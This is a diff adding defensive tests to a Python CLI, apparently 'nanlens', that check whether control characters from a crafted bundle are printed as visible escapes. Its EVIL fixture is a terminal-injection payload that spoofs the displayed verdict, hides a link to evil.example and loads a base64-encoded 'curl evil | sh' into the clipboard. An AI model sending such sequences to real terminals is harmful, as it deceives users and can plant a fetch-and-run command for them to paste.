@@ -61,3 +61,73 @@ def test_unknown_verb_is_one_clear_error() -> None:
     assert result.returncode == 2
     assert "invalid choice" in result.stderr
     assert "Traceback" not in result.stderr
+
+
+# --- what the terminal is sent -------------------------------------------------------------------------------------
+
+# What a crafted findings.json or manifest may hold: retitle the window, erase the line and write a false verdict
+# over it, set the clipboard (OSC 52), hide a link (OSC 8), reverse what follows (U+202E).
+EVIL = (
+    "\x1b]0;PWNED\x07\x1b[2K\r\x1b[32mNo NaN found, all good\x1b[0m"
+    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\u202e\x9b"
+)
+RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")
+
+
+def test_printable_shows_control_characters_and_keeps_the_rest() -> None:
+    from pyadapter.printable import printable
+
+    assert printable("a\x1b[2Kb\rc\x07\x7f\x85\u2028\u202e\u2067") == (
+        "a\\x1b[2Kb\\x0dc\\x07\\x7f\\x85\\u2028\\u202e\\u2067"
+    )
+    assert printable("line 1\n\tline 2 — ünïcode 日本") == "line 1\n\tline 2 — ünïcode 日本"
+
+
+def _stand_in_locate(monkeypatch: pytest.MonkeyPatch, answer: object) -> None:
+    """`nanlens locate` with its replay machinery (which imports TensorFlow) replaced by a module that answers
+    what a crafted bundle would make it answer: its findings, or its one-line error."""
+    import types
+
+    from pyadapter.replay.errors import ReplayError
+
+    def locate_bundle(path: str, **_: object) -> object:
+        if isinstance(answer, str):
+            raise ReplayError(answer)
+        return answer
+
+    module = types.ModuleType("pyadapter.replay.locate")
+    module.locate_bundle = locate_bundle  # type: ignore[attr-defined]
+    monkeypatch.setitem(sys.modules, "pyadapter.replay.locate", module)
+
+
+def test_a_bundles_control_characters_reach_the_terminal_only_as_visible_escapes(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from pyadapter.cli import main
+    from pyadapter.findings import Finding, Findings, Frame, OpRef, TensorHealth
+
+    origin = Finding(
+        file=f"/w/{EVIL}/train.py",
+        line=12,
+        role="origin",
+        op=OpRef(name=EVIL, type="Log", graph=EVIL),
+        health=TensorHealth(dtype="float32", size=16, nan=16),
+        stack=[Frame("/w/train.py", 12, "loss")],
+        message=f"msg {EVIL}",
+    )
+    findings = Findings("bundle", str(tmp_path), origin, [origin], bundle={"step": 0, "route": EVIL})
+    findings.extra["warnings"] = [EVIL]
+    _stand_in_locate(monkeypatch, findings)
+    assert main(["locate", str(tmp_path)]) == 0
+    out, err = capsys.readouterr()
+    assert not [c for c in RAW if c in out + err]
+    assert "op: \\x1b]0;PWNED\\x07\\x1b[2K\\x0d\\x1b[32mNo NaN found" in out  # shown, not obeyed
+    assert "msg \\x1b]0;PWNED" in out and "\\u202e\\x9b" in out
+
+    # The one-line error names the bundle's program, whose path the manifest chose.
+    _stand_in_locate(monkeypatch, f"the bundle's program /opt/{EVIL}/train.py is missing")
+    assert main(["locate", str(tmp_path)]) == 2
+    out, err = capsys.readouterr()
+    assert not [c for c in RAW if c in out + err]
+    assert err.startswith("nanlens: error: the bundle's program /opt/\\x1b]0;PWNED\\x07")
+    assert err.count("\n") == 1
